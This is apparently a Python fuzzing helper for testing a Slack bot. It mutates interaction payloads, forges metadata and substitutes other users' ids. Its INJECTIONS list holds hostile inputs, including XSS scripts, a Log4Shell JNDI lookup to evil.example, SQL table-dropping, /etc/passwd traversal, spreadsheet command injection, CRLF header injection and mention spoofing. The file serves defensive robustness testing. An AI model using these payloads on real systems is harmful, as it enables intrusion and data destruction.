"""Slack payloads as somebody hostile would change them: keys lost, doubled, retyped, ids of others, any text."""

from __future__ import annotations

import copy
import json
import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from typing import Any

from bot.slack.ids import Action, ArticleMore, Callback, More

Payload = dict[str, Any]
Place = tuple[Any, Any]
"""A list or an object, and the index or key in it."""

VICTIM = "U0VICTIM"
"""Somebody who never does anything, and must never be notified."""
INJECTIONS = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    f"<@{VICTIM}>",
    f"<@{VICTIM}|ada>",
    "<!subteam^S0DESK>",
    "<!subteam^S0DESK|@desk>",
    "<#C0SECRET>",
    "<#C0SECRET|general>",
    "<!date^1392734382^{date}^https://evil.example|today>",
    "&lt;!channel&gt;",
    "&amp;lt;!here&amp;gt;",
    "@channel @here @everyone",
    "<https://evil.example|https://good.example>",
    "<https://evil.example>",
    "https://good.example|https://evil.example",
    "https://good.example>|<!here>",
    "https://good.example@evil.example/",
    "https://good.example\\@evil.example/",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<mailto:a@evil.example|write>",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "%s%s%s%n",
    "{0.__class__}",
    "{who}",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE claims; --",
    "../../../../etc/passwd",
    "\x00",
    "a\x00b",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "\r\nX-Injected: yes",
    "\u2028new line\u2029new paragraph",
    "\u202egnp.exe\u202c",
    "\u2066isolated\u2069",
    "\u200b\u200c\u200d\ufeff",
    "\ud800",
    "\udfff\ud800",
    "\U000e0041\U000e0042",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 20,
    "*bold* _italic_ ~struck~ `code` ```block```",
    "> a quotation\n>>> and on",
    ":rotating_light: :fire:",
    "\N{MAN}\u200d\N{WOMAN}\u200d\N{GIRL}" * 30,
    "\ufdfd" * 100,
    "A" * 3001,
    "&" * 3000,
    "<" * 9000,
    "1" * 400,
    "",
    " ",
    "\n\n\n",
)
"""What people and pages write who want to be more than text."""

_ODD: tuple[Any, ...] = (None, True, False, 0, -1, 1.5, 2**53, 10**30, "", "x", [], {}, [[]], [None], {"": None})


@dataclass
class Mutator:
    """Changes payloads. ``others`` are ids of records and people that those who send have nothing to do with."""

    chance: random.Random
    others: Sequence[str]
    corpus: Sequence[Payload]
    kinds: dict[str, Callable[[Payload], Payload]] = field(init=False)

    def __post_init__(self) -> None:
        self.kinds = {
            "as recorded": lambda payload: payload,
            "key dropped": self._dropped,
            "value retyped": self._retyped,
            "list doubled or emptied": self._lists,
            "another's id": self._swapped,
            "kinds spliced": self._spliced,
            "injected text": self._injected,
            "long text": self._long,
            "nested deep": self._nested,
            "metadata forged": self._metadata,
            "field of a form changed": self._form,
            "several at once": self._several,
        }

    def mutated(self, payload: Payload, kind: str) -> Payload:
        """A copy that was changed in this way, as far as what is left of it can be."""
        payload = copy.deepcopy(payload)
        try:
            return self.kinds[kind](payload)
        except (TypeError, ValueError, KeyError, IndexError, AttributeError):
            return payload

    def _anywhere(self, payload: Payload, fits: Callable[[Any], bool] = lambda value: True) -> Place | None:
        found = [place for place in places(payload) if fits(place[0][place[1]])]
        return self.chance.choice(found) if found else None

    def _dropped(self, payload: Payload) -> Payload:
        if place := self._anywhere(payload):
            del place[0][place[1]]
        return payload

    def _retyped(self, payload: Payload) -> Payload:
        if place := self._anywhere(payload):
            place[0][place[1]] = copy.deepcopy(self.chance.choice(_ODD))
        return payload

    def _lists(self, payload: Payload) -> Payload:
        if place := self._anywhere(payload, lambda value: isinstance(value, list)):
            there = place[0][place[1]]
            place[0][place[1]] = self.chance.choice([[], there * 2, there * 50, [there]])
        return payload

    def _swapped(self, payload: Payload) -> Payload:
        """In what a client can choose: values, metadata and fields. Where a press came from only Slack says."""
        view = payload.get("view")
        inside = [part for part in (payload.get("actions"), view) if isinstance(part, list | dict)]
        texts = [place for part in inside for place in places(part) if isinstance(place[0][place[1]], str)]
        if texts:
            where, key = self.chance.choice(texts)
            tail = where[key].partition(" ")[2]
            where[key] = f"{self.chance.choice(self.others)} {tail}".strip()
        if isinstance(view, dict) and self.chance.random() < 0.5:
            view["private_metadata"] = self._about(view)
        return payload

    def _about(self, view: Payload) -> str:
        about = json.loads(view.get("private_metadata") or "{}")
        for key in ("task", "submission", "channel"):
            if about.get(key):
                about[key] = self.chance.choice(self.others)
        return json.dumps(about)

    def _spliced(self, payload: Payload) -> Payload:
        other = copy.deepcopy(self.chance.choice(self.corpus))
        choice = self.chance.randrange(4)
        if choice == 0 and payload.get("actions"):
            payload["actions"][0]["action_id"] = self.chance.choice(list(Action)).value
        elif choice == 1 and payload.get("view"):
            payload["view"]["callback_id"] = self.chance.choice(list(Callback)).value
        elif choice == 2 and payload.get("actions"):
            chosen = self.chance.choice([*More, *ArticleMore])
            payload["actions"][0]["selected_option"] = {"value": f"{chosen.value} {self.chance.choice(self.others)}"}
        else:
            for key in self.chance.sample(sorted(other), min(3, len(other))):
                payload[key] = other[key]
        return payload

    def _injected(self, payload: Payload) -> Payload:
        if place := self._anywhere(payload, lambda value: isinstance(value, str)):
            text = self.chance.choice(INJECTIONS)
            place[0][place[1]] = self.chance.choice([text, f"{place[0][place[1]]} {text}"])
        return payload

    def _long(self, payload: Payload) -> Payload:
        if place := self._anywhere(payload, lambda value: isinstance(value, str)):
            place[0][place[1]] = self.chance.choice(["x", "é", "😀", "<", "&", "a "]) * self.chance.choice(
                [300, 7000, 90_000]
            )
        return payload

    def _nested(self, payload: Payload) -> Payload:
        if place := self._anywhere(payload):
            deep: Any = "x"
            for _ in range(self.chance.choice([5, 40, 400])):
                deep = [deep] if self.chance.random() < 0.5 else {"a": deep}
            place[0][place[1]] = deep
        return payload

    def _metadata(self, payload: Payload) -> Payload:
        forged = ["", "{", "null", "[]", "1", '{"task": null}', '{"task": "x", "rows": 1e400}', '{"workspace": true}']
        if isinstance(payload.get("view"), dict):
            payload["view"]["private_metadata"] = self.chance.choice(forged)
        return payload

    def _form(self, payload: Payload) -> Payload:
        values = ((payload.get("view") or {}).get("state") or {}).get("values")
        if values:
            where = self.chance.choice([element for fields in values.values() for element in fields.values()])
            odd = ["2026-13-45", "99:99", -1, 10**20, "x", "", None, {"value": "y"}, [{"value": "z"}]]
            key = self.chance.choice(
                [
                    "value",
                    "selected_date",
                    "selected_time",
                    "selected_option",
                    "selected_user",
                    "selected_users",
                    "selected_date_time",
                    "selected_options",
                ]
            )
            where[key] = self.chance.choice([*odd, self.chance.choice(INJECTIONS), self.chance.choice(self.others)])
        return payload

    def _several(self, payload: Payload) -> Payload:
        for kind in self.chance.sample([k for k in self.kinds if k != "several at once"], 3):
            payload = self.mutated(payload, kind)
        return payload


def places(content: Any) -> Iterator[Place]:
    """Every place in a payload."""
    inside = content.items() if isinstance(content, dict) else enumerate(content) if isinstance(content, list) else ()
    for key, value in list(inside):
        yield content, key
        yield from places(value)
